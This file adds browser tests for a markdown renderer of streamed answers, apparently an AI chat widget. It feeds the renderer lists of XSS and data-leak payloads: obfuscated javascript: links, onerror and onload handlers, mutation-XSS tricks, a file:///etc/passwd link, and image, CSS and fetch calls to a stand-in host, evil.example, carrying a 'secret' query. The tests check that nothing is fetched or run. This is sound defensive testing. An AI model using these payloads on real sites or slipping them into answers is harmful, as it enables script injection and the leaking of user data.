@@ -1,0 +1,246 @@
+import { expect, test } from '../../fixtures/test';
+
+/** Answers that try to fetch something. */
+const LEAKS = [
+  '![](https://evil.example/?q=secret)',
+  '![text](https://evil.example/a.png "t") ![text][ref] ![ref]\n\n[ref]: https://evil.example/ref.png',
+  '<img src="https://evil.example/raw.png" srcset="https://evil.example/2x.png 2x" onerror="fetch(\'https://evil.example/onerror\')">',
+  '<picture><source srcset="https://evil.example/s.png"><img src="https://evil.example/p.png"></picture>',
+  '<video autoplay src="https://evil.example/v.mp4" poster="https://evil.example/v.png"></video><audio autoplay src="https://evil.example/a.mp3">',
+  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="dns-prefetch" href="https://evil.example"><style>@import "https://evil.example/i.css";</style>',
+  '<p style="background:url(https://evil.example/bg.png)">text</p>\n\n<svg><image href="https://evil.example/svg.png"/></svg>',
+  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
+  '[![](https://evil.example/inner.png)](https://evil.example/outer)',
+  '<script src="https://evil.example/x.js"></script>\n\n<script>\nfetch("https://evil.example/s")\n</script>',
+  '```html\n<img src="https://evil.example/code.png">\n```\n\n![a](//evil.example/proto.png) ![b](\\\\\\\\evil.example\\\\back.png) ![c](HTTPS://EVIL.example/caps.png)',
+  '| ![](https://evil.example/cell.png) |\n|---|\n| ![](https://evil.example/cell2.png) |\n\n[^1]\n\n[^1]: ![](https://evil.example/note.png)',
+  '![ok](https://127.0.0.1.evil.example/host.png) ![ok](https://evil.example@127.0.0.1.evil.example/user.png)',
+];
+
+/** Answers that try to run something. */
+const ATTACKS = [
+  '[a](javascript:window.hit=1) [a](JaVaScRiPt:window.hit=1) [a](java\tscript:window.hit=1) [a](\u0001javascript:window.hit=1)',
+  '[a](<javascript:window.hit=1>) [a](javascript&colon;window.hit=1) [a](&#106;avascript:window.hit=1) [a](&#x6A;avascript&#58;window.hit=1)',
+  '[a](<java\nscript:window.hit=1>) [a]( javascript:window.hit=1) [a](java&Tab;script:window.hit=1) [a](java&NewLine;script:window.hit=1)',
+  '<javascript:window.hit=1> [r] [r][r]\n\n[r]: javascript:window.hit=1\n[s]: <javascript:window.hit=1>',
+  '[a](data:text/html,<script>window.hit=1</script>) [a](vbscript:x) [a](file:///etc/passwd) [a](blob:x) [a](view-source:x)',
+  '![a](javascript:window.hit=1) ![a](data:image/svg+xml,<svg onload=window.hit=1>)',
+  '<img src=x onerror=window.hit=1> <svg onload=window.hit=1> <svg><script>window.hit=1</script></svg>',
+  '<a href="javascript:window.hit=1">x</a> <b onclick="window.hit=1" onmouseover="window.hit=1">bold</b> <kbd onfocus=window.hit=1 autofocus tabindex=0>k</kbd>',
+  '<details open ontoggle="window.hit=1"><summary>x</summary></details> <input autofocus onfocus=window.hit=1> <form action="javascript:window.hit=1"><button>x</button></form>',
+  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><math><mtext><mglyph><style><img src=x onerror=window.hit=1>',
+  '<div>\n\n<img src=x onerror=window.hit=1>\n\n</div>\n\n<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
+  '<!--><img src=x onerror=window.hit=1>--> <![CDATA[<img src=x onerror=window.hit=1>]]> <?php <img src=x onerror=window.hit=1> ?>',
+  '```"><img src=x onerror=window.hit=1>\ncode\n```\n\n```js" onmouseover="window.hit=1\ncode\n```',
+  '[a](https://a.example/" onmouseover="window.hit=1) [a](/x "t\\" onclick=\\"window.hit=1")',
+  '$$\\href{javascript:window.hit=1}{x}$$ \\(\\unicode{<img src=x onerror=window.hit=1>}\\)\n\n```mermaid\ngraph TD; A["<img src=x onerror=window.hit=1>"]\n```',
+  '[constructor] [__proto__] [a][toString]\n\n[__proto__]: javascript:window.hit=1\n\n[^__proto__]\n\n[^__proto__]: x',
+];
+
+// The story's own policy would stop most of it too; here nothing but the renderer does.
+test.use({ bypassCSP: true });
+
+test.beforeEach(async ({ page }) => {
+  await page.goto('/demo/pages/markdown.html');
+  await page.waitForFunction(() => 'answers' in window);
+});
+
+for (const [index, text] of LEAKS.entries()) {
+  test(`leak ${index + 1} causes no request, during and after streaming`, async ({ page }) => {
+    const requests: string[] = [];
+    await page.context().route(
+      (url) => url.hostname !== '127.0.0.1',
+      async (route) => {
+        requests.push(route.request().url());
+        await route.abort();
+      },
+    );
+    await page.evaluate(async (text) => window.answers.stream(window.answers.create(), text, { step: 1 }), text);
+    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
+    expect(requests).toEqual([]);
+    const found = await page.evaluate(
+      () =>
+        window.answers.last?.element.querySelectorAll(
+          'img, video, audio, iframe, link, style, script, svg:not(button[part$=-code] > svg), object, embed, meta, base',
+        ).length,
+    );
+    expect(found).toBe(0);
+    await expect(page.locator('#story')).not.toContainText('blocked');
+  });
+}
+
+test('an image that is not allowed is a link with its text; one of the docs is loaded, and moves nothing', async ({
+  page,
+}) => {
+  const referrers: (string | undefined)[] = [];
+  await page.route('**/docs/logo.png', async (route) => {
+    referrers.push(route.request().headers()['referer']);
+    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="900"/>';
+    await route.fulfill({ contentType: 'image/svg+xml', body: svg });
+  });
+  await page.route('https://cdn.acme.example/**', (route) =>
+    route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
+  );
+  await page.evaluate(() => {
+    const answer = window.answers.create({ imageHosts: [location.host, 'cdn.acme.example'] });
+    answer.view.update(
+      '![A diagram](https://evil.example/?q=1)\n\n![Logo](/logo.png)\n\nAfter it ![in text](https://cdn.acme.example/i.png).',
+      false,
+    );
+  });
+  const link = page.getByRole('link', { name: 'A diagram' });
+  await expect(link).toHaveAttribute('href', 'https://evil.example/?q=1');
+  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  const top = await page.locator('#story p').last().boundingBox();
+  await expect
+    .poll(() => page.getByAltText('Logo').evaluate((image) => image instanceof HTMLImageElement && image.naturalHeight))
+    .toBe(900);
+  expect(await page.locator('#story p').last().boundingBox()).toEqual(top);
+  expect(referrers).toEqual([undefined]);
+  await expect(page.getByAltText('Logo')).toHaveAttribute('loading', 'lazy');
+  await expect(page.getByAltText('in text')).toHaveCount(1);
+});
+
+for (const [index, text] of ATTACKS.entries()) {
+  test(`attack ${index + 1} runs nothing and leaves only safe links`, async ({ page }) => {
+    await page.evaluate(
+      async (text) => window.answers.stream(window.answers.create({ highlighter: null }), text, { step: 1 }),
+      text,
+    );
+    const { links, handlers, tags } = await page.evaluate(() => {
+      // The icons of our own buttons at code are no part of the answer.
+      const elements = [...(window.answers.last?.element.querySelectorAll('*') ?? [])].filter(
+        (element) => !element.matches('button[part$=-code] > svg, button[part$=-code] > svg > path'),
+      );
+      return {
+        links: elements.flatMap((element) => element.getAttribute('href') ?? []),
+        handlers: elements.flatMap((element) =>
+          [...element.attributes].filter(({ name }) => /^(on|style|srcdoc|action|formaction)/.test(name)),
+        ).length,
+        tags: [...new Set(elements.map(({ localName }) => localName))],
+      };
+    });
+    for (const link of links) expect(link).toMatch(/^(https?:\/\/|mailto:|#)/);
+    expect(handlers).toBe(0);
+    for (const tag of tags)
+      expect(tag).toMatch(/^(p|a|b|kbd|code|pre|div|span|button|sup|section|ol|ul|li|br|em|strong|h[1-6])$/);
+    for (const link of await page.locator('#story a').all()) {
+      await link.dispatchEvent('mouseover');
+      await link.evaluate((element) => element.addEventListener('click', (event) => event.preventDefault()));
+      await link.click();
+    }
+    expect(await page.evaluate(() => 'hit' in window)).toBe(false);
+    await expect(page.locator('#story')).not.toContainText('blocked');
+  });
+}
+
+test("links of the docs open in place or by the router, others in a new tab, and modified clicks are the browser's", async ({
+  page,
+  context,
+}) => {
+  await page.evaluate(() => {
+    const followed: string[] = [];
+    document.documentElement.dataset.followed = '';
+    window.answers
+      .create({
+        onLinkClick: ({ href, sameOrigin, event }) => {
+          followed.push(`${new URL(href, location.href).pathname} ${sameOrigin}`);
+          document.documentElement.dataset.followed = followed.join();
+          if (sameOrigin) event.preventDefault();
+        },
+      })
+      .view.update(
+        '[guide](/guides/x) [relative](./y) [anchor](#z) [index](guides/index#a) [other](https://other.example/p) [mail](mailto:a@b.c)',
+        true,
+      );
+  });
+  const link = (name: string) => page.getByRole('link', { name });
+  await expect(link('guide')).toHaveAttribute('href', /\/docs\/guides\/x$/);
+  await expect(link('relative')).toHaveAttribute('href', /\/docs\/y$/);
+  await expect(link('index')).toHaveAttribute('href', /\/docs\/guides\/#a$/);
+  await expect(link('anchor')).toHaveAttribute('href', '#z');
+  await expect(link('guide')).not.toHaveAttribute('target');
+  await expect(link('mail')).not.toHaveAttribute('target');
+  await expect(link('other')).toHaveAttribute('target', '_blank');
+  await expect(link('other')).toHaveAttribute('rel', 'noopener noreferrer');
+  const { url } = { url: page.url() };
+  await link('guide').click();
+  expect(page.url()).toBe(url);
+  await expect(page.locator('html')).toHaveAttribute('data-followed', '/docs/guides/x true');
+  await link('relative').focus();
+  await page.keyboard.press('Enter');
+  await expect(page.locator('html')).toHaveAttribute('data-followed', '/docs/guides/x true,/docs/y true');
+  await context.route('https://other.example/**', (route) =>
+    route.fulfill({ contentType: 'text/html', body: '<script>document.title = String(opener)</script>' }),
+  );
+  const [tab] = await Promise.all([context.waitForEvent('page'), link('other').click()]);
+  await expect(tab).toHaveTitle('null');
+  const [modified] = await Promise.all([
+    context.waitForEvent('page'),
+    link('guide').click({ modifiers: ['ControlOrMeta'] }),
+  ]);
+  await expect(modified).toHaveURL(/\/docs\/guides\/x$/);
+  await expect(page.locator('html')).toHaveAttribute('data-followed', '/docs/guides/x true,/docs/y true,/p false');
+});
+
+test('links that are half-written or unsafe show their label, and nothing else', async ({ page }) => {
+  for (const text of [
+    '[link](ht',
+    '[link](',
+    '[link]',
+    '[link](https://acme.example/half "ti',
+    '[link](javascript:alert(1))',
+  ]) {
+    await page.evaluate((text) => window.answers.create().view.update(`See ${text}`, text.endsWith('))')), text);
+    await expect(page.locator('#story [part=answer]').last()).toHaveText('See link');
+    await expect(page.locator('#story [part=answer]').last().locator('a')).toHaveCount(0);
+  }
+});
+
+test('a block that cannot be rendered shows as plain text, and everything else goes on', async ({ page }) => {
+  const errors = await page.evaluate(async () => {
+    const errors: string[] = [];
+    const answer = window.answers.create({
+      blocks: {
+        table: () => {
+          throw new Error('no tables');
+        },
+        code: ({ language }) => {
+          if (language === 'bad') throw new Error('no code');
+          return null;
+        },
+      },
+      onError: (error) => errors.push(String(error)),
+    });
+    await window.answers.stream(
+      answer,
+      'First.\n\n| Head |\n|---|\n| Cell |\n\nMiddle.\n\n```bad\nline 1\nline 2\n```\n\n```good\nfine\n```\n\nLast.',
+    );
+    return errors;
+  });
+  expect(errors).toEqual(['Error: no tables', 'Error: no code']);
+  await expect(page.locator('[part=plain]').first()).toHaveText(/Head\s*Cell/);
+  await expect(page.locator('[part=plain]').last()).toHaveText('line 1\nline 2');
+  await expect(page.locator('pre')).toHaveText('fine');
+  await expect(page.locator('#story p').last()).toHaveText('Last.');
+});
+
+test('an error inside the renderer itself takes one block, not the answer', async ({ page }) => {
+  const errors = await page.evaluate(async () => {
+    const errors: string[] = [];
+    const answer = window.answers.create({ onError: (error) => errors.push(String(error)), highlighter: null });
+    const create = document.createElement.bind(document);
+    document.createElement = (tag: string) => {
+      if (tag === 'table') throw new Error('out of tables');
+      return create(tag);
+    };
+    await window.answers.stream(answer, 'First.\n\n| Head |\n|---|\n| Cell |\n\nLast **bold**.', { step: 1 });
+    document.createElement = create;
+    return errors;
+  });
+  expect(errors).toEqual(['Error: out of tables']);
+  await expect(page.locator('[part=answer]')).toContainText('First.');
+  await expect(page.locator('[part=answer]')).toContainText('| Cell |');
+  await expect(page.locator('strong')).toHaveText('bold');
+});
